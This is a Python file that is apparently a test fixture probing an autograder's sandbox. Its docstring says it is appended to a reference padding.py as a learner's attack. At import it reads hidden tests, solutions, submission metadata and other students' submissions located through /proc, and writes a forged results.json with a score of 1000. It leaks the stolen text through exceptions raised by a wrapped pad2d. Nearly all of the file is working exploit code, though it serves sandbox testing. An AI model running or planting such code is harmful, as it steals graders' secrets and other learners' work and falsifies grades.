"""Appended to the reference padding.py: a learner's attempt on Gradescope's container.

At import, in the worker, it looks for the autograder's tree (/autograder, or a test's
/tmp/s13-gs-* copy of it) and for the folders of the grader's other workers in it (the
reference's, found through /proc, as a grader without a pid namespace shows them; other
processes of a shared test machine are no part of the container), then tries to read
the hidden tests, the solutions and the submission history, and to write results.json
with a forged score. Anything it
reads is put into the message of every pad2d call, which the learner's feedback shows.
Honest otherwise: it deserves exactly the reference's score.
"""

import glob
import json
import os
import re

OWN = "gradescope_escape: this is the learner's own file"
MINE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))  # this s13_cnn/


def _read(path):
    try:
        with open(path, encoding="utf-8", errors="replace") as fh:
            text = fh.read()
    except OSError:
        return None
    return None if OWN in text else f"{path}: {text[:2000]}"


def _steal():
    found = []
    roots = ["/autograder", *glob.glob("/tmp/s13-gs-*")]
    for root in roots:
        paths = glob.glob(f"{root}/source/grader/hidden/*.py")
        paths += glob.glob(f"{root}/source/solutions/s13_cnn/*/*.py")
        paths += [f"{root}/submission_metadata.json", f"{root}/source/autograder.json"]
        found += [text for text in map(_read, paths) if text]
        try:
            with open(f"{root}/results/results.json", "w") as fh:
                json.dump({"score": 1000, "output": "FORGED by the learner", "tests": []}, fh)
            found.append(f"{root}/results/results.json: written")
        except OSError:
            pass
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        text = _read(cmdline) or ""
        for folder in set(re.findall(r"/[^\"\x00 ]*s13-worker-[0-9]+-[^\"\x00/ ]+", text)):
            if not folder.startswith(tuple(roots)):
                continue
            for path in glob.glob(f"{folder}/sandbox/submission/s13_cnn/*/*.py"):
                if not os.path.abspath(path).startswith(MINE + os.sep):
                    found += [t for t in [_read(path)] if t]
    return found


_STOLEN = _steal()
_honest_pad2d = globals()["pad2d"]


def pad2d(*args, **kwargs):
    if _STOLEN:
        raise RuntimeError("LEAKED " + "\n".join(_STOLEN)[:6000])
    return _honest_pad2d(*args, **kwargs)
